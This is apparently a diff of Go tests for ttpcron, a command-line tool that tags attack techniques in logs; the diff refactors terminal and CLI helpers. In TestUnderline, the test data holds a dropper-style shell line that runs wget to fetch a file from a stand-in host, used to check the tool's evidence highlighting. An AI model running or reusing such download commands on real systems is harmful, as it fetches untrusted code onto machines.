@@ -14,6 +14,8 @@ import (
 	"time"
 
 	"github.com/ttpcron/ttpcron"
+	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/cli"
+	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/term"
 	"github.com/ttpcron/ttpcron/importer"
 	"github.com/ttpcron/ttpcron/jobs"
 	"github.com/ttpcron/ttpcron/kv"
@@ -30,7 +32,7 @@ func TestExitCode(t *testing.T) {
 		{errors.New("x"), 1},
 		{jobs.ErrNoRules, 1},
 		{&jobs.InputError{Files: []jobs.FileReport{{Err: fs.ErrPermission}}}, 1},
-		{usagef("x"), 2},
+		{cli.Usagef("x"), 2},
 		{fmt.Errorf("open: %w", &kv.LockedError{}), 75},
 		{errors.Join(jobs.ErrInterrupted, errors.New("x")), 130},
 		{fmt.Errorf("read: %w", context.Canceled), 130},
@@ -40,6 +42,11 @@ func TestExitCode(t *testing.T) {
 			t.Errorf("%v: exit %d, want %d", tt.err, got, tt.want)
 		}
 	}
+}
+
+// quiet is a call of the program that nobody sees.
+func quiet(env map[string]string) *invocation {
+	return &invocation{out: term.NewOutput(io.Discard, io.Discard, env), stdin: strings.NewReader(""), env: env, now: time.Now}
 }
 
 // TestLayers is the table of who wins: flags, the environment, the file.
@@ -73,59 +80,20 @@ func TestLayers(t *testing.T) {
 			for k, v := range tt.env {
 				env[k] = v
 			}
-			a := newApp(strings.NewReader(""), io.Discard, io.Discard, env)
-			c := a.runOnceCommand()
-			a.root = a.rootCommand()
+			c := runOnceCommand()
 			var got string
-			c.run = func(context.Context, []string) error {
-				f := func(name string) string { return c.fs.Lookup(name).Value.String() }
-				got = fmt.Sprint(a.set.role, " ", f("batch-size"), " ", f("dry-run"), " ", []string(a.set.inputs))
+			c.Run = func(_ context.Context, s *session, _ []string) error {
+				f := func(name string) string { return c.Flags.Lookup(name).Value.String() }
+				got = fmt.Sprint(s.set.Role, " ", f("batch-size"), " ", f("dry-run"), " ", s.set.Inputs)
 				return nil
 			}
-			node := a.build(c)
-			if err := node.Parse(tt.args); err != nil {
-				t.Fatal(err)
-			}
-			if err := node.Run(t.Context()); err != nil {
+			if _, err := quiet(env).commands(&command{Sub: []*command{c}}).Run(t.Context(), append([]string{"run-once"}, tt.args...)); err != nil {
 				t.Fatal(err)
 			}
 			if got != tt.want {
 				t.Errorf("got %s, want %s", got, tt.want)
 			}
 		})
-	}
-}
-
-func TestParseWhen(t *testing.T) {
-	now := time.Date(2026, 5, 20, 12, 0, 0, 0, time.UTC)
-	for in, want := range map[string]string{
-		"":                          "0001-01-01T00:00:00Z",
-		"2026-05-04T05:49:05Z":      "2026-05-04T05:49:05Z",
-		"2026-05-04T05:49:05+02:00": "2026-05-04T03:49:05Z",
-		"2026-05-04":                "2026-05-04T00:00:00Z",
-		"7d":                        "2026-05-13T12:00:00Z",
-		"36h":                       "2026-05-19T00:00:00Z",
-		"1w1d12h30m":                "2026-05-11T23:30:00Z",
-		"0s":                        "2026-05-20T12:00:00Z",
-	} {
-		got, err := parseWhen(in, now)
-		if err != nil || got.Format(time.RFC3339) != want {
-			t.Errorf("parseWhen(%q) = %v, %v, want %s", in, got, err, want)
-		}
-	}
-	for _, in := range []string{"yesterday", "7", "-7d", "d", "1d2w", "99999d", "1.5d", "2026-13-01", "-1h", "9999999h1000000000000h"} {
-		if got, err := parseWhen(in, now); err == nil {
-			t.Errorf("parseWhen(%q) = %v", in, got)
-		}
-	}
-}
-
-func TestNearest(t *testing.T) {
-	names := []string{"import", "run-once", "tags", "status"}
-	for in, want := range map[string]string{"improt": "import", "runonce": "run-once", "tag": "tags", "STATUS": "status", "frobnicate": "", "x": ""} {
-		if got := nearest(in, names); got != want {
-			t.Errorf("nearest(%q) = %q, want %q", in, got, want)
-		}
 	}
 }
 
@@ -138,7 +106,7 @@ func TestExcerpt(t *testing.T) {
 		`not json`:                                             "not json",
 		`{"command_text":"` + strings.Repeat("a", 5000) + `"}`: strings.Repeat("a", maxExcerpt-1) + "~",
 	} {
-		if got := excerpt(&ttpcron.Tag{Evidence: []byte(evidence)}, terminal{}); got != want {
+		if got := excerpt(&ttpcron.Tag{Evidence: []byte(evidence)}, term.Terminal{}); got != want {
 			t.Errorf("%.60s: got %.80q", evidence, got)
 		}
 	}
@@ -146,12 +114,12 @@ func TestExcerpt(t *testing.T) {
 
 func TestUnderline(t *testing.T) {
 	text := "cd /tmp\n; wget http://203.0.113.9/a"
-	got := underline(text, 10, 14, terminal{})
+	got := underline(text, 10, 14, term.Terminal{})
 	if want := "      cd /tmp\\n; wget http://203.0.113.9/a\n                 ^^^^\n"; got != want {
 		t.Errorf("got\n%swant\n%s", got, want)
 	}
 	for _, bad := range [][2]int{{-1, 3}, {3, 3}, {4, 99}} {
-		if underline(text, bad[0], bad[1], terminal{}) != "" {
+		if underline(text, bad[0], bad[1], term.Terminal{}) != "" {
 			t.Errorf("%v is underlined", bad)
 		}
 	}
@@ -166,7 +134,7 @@ func TestPicture(t *testing.T) {
 	}
 	p.attackers = []attackerCount{{"203.0.113.7", 50, "2 techniques"}, {"bad\x1b", 1, "1 technique"}}
 	var b strings.Builder
-	if err := p.print(&b, terminal{}); err != nil {
+	if err := p.print(&b, term.Terminal{}); err != nil {
 		t.Fatal(err)
 	}
 	want, err := os.ReadFile("testdata/picture.txt")
@@ -181,7 +149,7 @@ func TestPicture(t *testing.T) {
 	}
 	for _, width := range []int{20, 60, 80, 100, 200} {
 		b.Reset()
-		p.print(&b, terminal{width: width})
+		p.print(&b, term.Terminal{Width: width})
 		for _, line := range strings.Split(b.String(), "\n") {
 			if len(line) > max(width, 80) {
 				t.Errorf("width %d: %d cells: %s", width, len(line), line)
@@ -192,7 +160,6 @@ func TestPicture(t *testing.T) {
 
 // TestHints holds what is said about errors of other packages.
 func TestHints(t *testing.T) {
-	var a app
 	for _, tt := range []struct {
 		err  error
 		want string
@@ -202,7 +169,7 @@ func TestHints(t *testing.T) {
 		{&jobs.InputError{Files: []jobs.FileReport{{Err: &importer.UnknownFormatError{Path: "a.log"}}}}, "lists the formats"},
 		{&jobs.InputError{Files: []jobs.FileReport{{Err: fs.ErrNotExist}}}, "correct the input"},
 	} {
-		if got := a.hint(t.Context(), fmt.Errorf("doing something: %w", tt.err)); !strings.Contains(got, tt.want) {
+		if got := hintOf(fmt.Errorf("doing something: %w", tt.err)); !strings.Contains(got, tt.want) {
 			t.Errorf("%v: hint %q, want %q in it", tt.err, got, tt.want)
 		}
 	}
